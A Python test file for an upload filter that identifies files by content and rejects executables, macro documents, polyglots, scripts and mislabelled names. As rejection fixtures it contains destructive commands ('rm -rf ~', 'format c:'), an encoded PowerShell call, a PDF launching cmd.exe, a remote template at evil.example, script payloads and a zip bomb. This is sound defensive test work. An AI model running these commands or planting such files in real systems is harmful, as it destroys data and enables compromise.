"""What a file is, by its content; and what is none of the kinds that we take."""

import io
import random
import struct
import zipfile

import pytest

from bot.runtime.files.filetypes import KNOWN, file_type, named
from tests.fixtures.files import PDF, docx, iso, office, ole, open_document, packed, photo

ARABIC = "السلام عليكم ورحمة الله وبركاته\nأريد معرفة موعد السلة الغذائية، وقد تأخرت علينا هذا الشهر.\n"
JPG = photo("JPEG")
GIF = b"GIF89a\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x01\0\0;"
JAR = packed({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0", "A.class": b"\xca\xfe\xba\xbe"})
APK = packed({"AndroidManifest.xml": b"\x03\0", "classes.dex": b"dex\n035"})
EXE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 52 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0"
MACRO_TYPES = b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'


@pytest.mark.parametrize(
    ("data", "extension"),
    [
        (PDF, "pdf"),
        (b"\xef\xbb\xbf" + PDF, "pdf"),
        (b"\r\n\r\n" + PDF, "pdf"),
        (b"\0" * 128 + PDF, "pdf"),
        (b"\x1b%-12345X@PJL\r\n@PJL ENTER LANGUAGE=PDF\r\n" + PDF, "pdf"),
        (b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n" + PDF, "pdf"),
        (b"\xff\xfe" + PDF, "pdf"),
        (iso(b"heic"), "heic"),
        (iso(b"heix", b"mif1"), "heic"),
        (iso(b"hevc"), "heic"),
        (iso(b"heim"), "heic"),
        (iso(b"hevm"), "heic"),
        (iso(b"mif1", b"mif1", b"heic"), "heic"),
        (iso(b"msf1", b"hevc"), "heic"),
        (iso(b"avif", b"mif1"), "avif"),
        (iso(b"avis", b"avif"), "avif"),
        (iso(b"mif1", b"mif1", b"avif"), "avif"),
        (iso(b"isom", b"mp42"), "mp4"),
        (iso(b"M4V "), "mp4"),
        (iso(b"qt  "), "mov"),
        (b"\0\0\0\x08wide\0\0\0\x10mdat" + b"\0" * 8, "mov"),
        (iso(b"3gp4"), "3gp"),
        (iso(b"3g2a"), "3gp"),
        (iso(b"M4A "), "m4a"),
        (b"RIFF\x24\0\0\0AVI LIST" + b"\0" * 40, "avi"),
        (b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 40, "wav"),
        (b"OggS\0\x02" + b"\0" * 20 + b"\x01\x13OpusHead" + b"\0" * 30, "ogg"),
        (b"OggS\0\x02" + b"\0" * 20 + b"\x01\x1e\x01vorbis" + b"\0" * 30, "ogg"),
        (b"ID3\x04\0\0\0" + b"\0" * 30, "mp3"),
        (b"\xff\xf3\x90\x64" + b"\0" * 30, "mp3"),
        (b"#!AMR\n" + b"\x3c" * 30, "amr"),
        (JPG, "jpg"),
        (photo("PNG"), "png"),
        (photo("WEBP"), "webp"),
        (photo("AVIF"), "avif"),
        (GIF, "gif"),
        (docx(), "docx"),
        (office({"xl/workbook.xml": "<x/>"}), "xlsx"),
        (office({"ppt/presentation.xml": "<x/>"}), "pptx"),
        (open_document("text"), "odt"),
        (open_document("spreadsheet"), "ods"),
        (ole("Root Entry", "WordDocument"), "doc"),
        (ole("Root Entry", "Workbook"), "xls"),
        (ole("Root Entry", "PowerPoint Document"), "ppt"),
        (b"{\\rtf1\\ansi hello}", "rtf"),
        (ARABIC.encode(), "txt"),
        (ARABIC.encode("utf-8-sig"), "txt"),
        (ARABIC.encode("utf-16"), "txt"),
        (b"\xfe\xff" + ARABIC.encode("utf-16-be"), "txt"),
        (ARABIC.encode("utf-16-le"), "txt"),
        (ARABIC.encode("cp1256"), "txt"),
        ("رقم الطلب 1001".encode("cp1256"), "txt"),
        ("Dear Sir, my number is 0551234567.".encode("utf-16"), "txt"),
        (b"Plain words", "txt"),
    ],
    ids=str,
)
def test_a_file_is_what_its_content_is_under_every_name(data: bytes, extension: str) -> None:
    found = file_type(data)
    assert found is not None and found.extension == extension
    if extension == "txt":
        return  # a text is looked at by its name as well: see below
    for name in ("virus.exe", "x.jpg", "x.pdf", "x.docm", "صورة", "page.html"):
        assert file_type(data, name) == found
        assert named(name, found).endswith(f".{extension}")


@pytest.mark.parametrize(
    "data",
    [
        EXE,
        b"\x7fELF\x02\x01\x01" + b"\0" * 64,
        b"\xcf\xfa\xed\xfe\x07\0\0\x01" + b"\0" * 64,
        b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 64,
        b"L\0\0\0\x01\x14\x02\0" + b"\0" * 64,
        b"MSCF\0\0\0\0" + b"\0" * 64,
        b"Rar!\x1a\x07\0" + b"\0" * 64,
        b"7z\xbc\xaf\x27\x1c" + b"\0" * 64,
        b"\x1f\x8b\x08\0" + b"\0" * 64,
        JAR,
        APK,
        packed({"letter.txt": "hello"}),
        packed({}),
        docx(**{"word/vbaProject.bin": b"macro"}),
        docx(**{"WORD/VBAPROJECT.BIN": b"macro"}),
        docx(**{"word/activeX/activeX1.bin": b"x"}),
        docx(**{"word/embeddings/run.exe": EXE}),
        docx(**{"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0"}),
        packed({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": "<x/>"}),
        docx(
            **{
                "word/_rels/document.xml.rels": b'<Relationship Type="x/vbaProject" Target="innocent.bin"/>'
            }
        ),
        docx(
            **{
                "word/_rels/settings.xml.rels": b'<Relationship Type="x/attachedTemplate" '
                b'Target="http://evil.example/x.dotm" TargetMode="External"/>'
            }
        ),
        office({"xl/workbook.xml": "<x/>", "xl/macrosheets/sheet1.xml": "<x/>"}),
        open_document("text", **{"Basic/Standard/Module1.xml": b"Sub Main"}),
        docx() + JAR,
        ole("Root Entry", "WordDocument", "Macros", "VBA"),
        ole("Root Entry", "Workbook", "_VBA_PROJECT_CUR"),
        ole("Root Entry", "EncryptedPackage"),
        ole("Root Entry", "Workbook") + b"\x85\0\x0e\0\0\0\0\0\0\x01\x06\0Macro1",
        ole("Root Entry", "\u4840\u3f3f\u4577"),  # an installer
        PDF + JAR,
        PDF + packed({"a.html": "<script>"}),
        GIF + JAR,
        JPG + APK,
        photo("PNG") + JAR,
        EXE + PDF,
        JPG[:20] + PDF,
        b"<html><script>alert(1)</script>" + PDF,
        b"#!/bin/sh\nrm -rf ~\nexit\n" + PDF,
        b"%PDF-1.7\n1 0 obj << /S /Launch /F (cmd.exe) >> endobj",
        b"{\\rtf1{\\object\\objdata 0105}}",
        b"\0\x01\x02\x03",
        b"\xd9\xd9\xd9\xd9 not text",
        bytes(random.Random(7).randbytes(4000)),
        "نص عربي".encode() + b"\0\0\0",
        "مرحبا بكم".encode()[:-1] + b" mixed \xe3 with odd \x90\x81",
    ],
    ids=str,
)
def test_what_we_do_not_take_is_taken_under_no_name(data: bytes) -> None:
    for name in ("", "x.jpg", "x.pdf", "x.docx", "x.txt", "ورقة"):
        assert file_type(data, name) is None, name


@pytest.mark.parametrize(
    "text",
    [
        "<!DOCTYPE html><p>hello",
        "\ufeff  <html><body>hello",
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        "<svg onload='alert(1)'/>",
        "hello\n<script>alert(1)</script>",
        "<HTA:APPLICATION>",
        "[InternetShortcut]\r\nURL=http://evil.example",
        "[Desktop Entry]\nExec=sh",
        "MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n",
        "From: <Saved by Blink>\r\nMIME-Version: 1.0",
        "#!/bin/sh\necho",
        "@echo off\r\nformat c:",
        'Set x = CreateObject("WScript.Shell")',
        "new ActiveXObject('x')",
        "powershell -enc AAAA",
        "Windows Registry Editor Version 5.00",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_script_or_a_page_is_no_note_whatever_it_is_called(text: str, encoding: str) -> None:
    for name in ("", "note.txt", "a.bat", "x.jpg"):
        assert file_type(text.encode(encoding), name) is None, name


@pytest.mark.parametrize(
    "ending",
    [
        "exe",
        "bat",
        "cmd",
        "com",
        "ps1",
        "js",
        "jse",
        "vbs",
        "vbe",
        "wsf",
        "sh",
        "py",
        "php",
        "html",
        "htm",
        "xhtml",
        "hta",
        "svg",
        "url",
        "lnk",
        "mht",
        "mhtml",
        "reg",
        "scr",
        "msi",
        "jar",
        "apk",
        "docm",
        "xlsm",
        "docx",
        "pdf",
        "jpg",
        "zip",
        "desktop",
        "command",
        "application",
    ],
)
def test_a_text_that_calls_itself_something_else_is_not_taken(ending: str) -> None:
    text = "مجرد كلام عادي".encode()
    for name in (f"a.{ending}", f"a.{ending.upper()}", f"a.txt.{ending}", f"a.{ending} ", f"a.{ending}."):
        assert file_type(text, name) is None, name


@pytest.mark.parametrize(
    ("name", "extension", "kept"),
    [
        ("renamed.pdf", "jpg", "renamed.jpg"),
        ("صورة البطاقة.JPEG", "jpg", "صورة البطاقة.JPEG"),
        ("invoice.pdf.exe", "pdf", "invoice.pdf"),
        ("photo.exe. ", "jpg", "photo.jpg"),
        ("تقرير", "pdf", "تقرير.pdf"),
        ("تقرير 12.2025", "pdf", "تقرير 12.2025.pdf"),
        ("محضر.اجتماع", "pdf", "محضر.اجتماع.pdf"),
        ("list.csv", "txt", "list.txt"),
        ("v.opus", "ogg", "v.opus"),
        (".htaccess", "txt", ""),
        (".jpg", "jpg", ""),
        ("", "jpg", ""),
    ],
)
def test_a_name_ends_in_what_the_file_is(name: str, extension: str, kept: str) -> None:
    assert named(name, KNOWN[extension]) == kept


def test_a_bomb_is_no_letter() -> None:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as folder:
        folder.writestr("word/document.xml", b"\0" * 30_000_000)
    data = held.getvalue()
    assert file_type(data) is not None
    size = struct.pack("<I", 30_000_000)
    assert file_type(data.replace(size, struct.pack("<I", 2**31))) is None
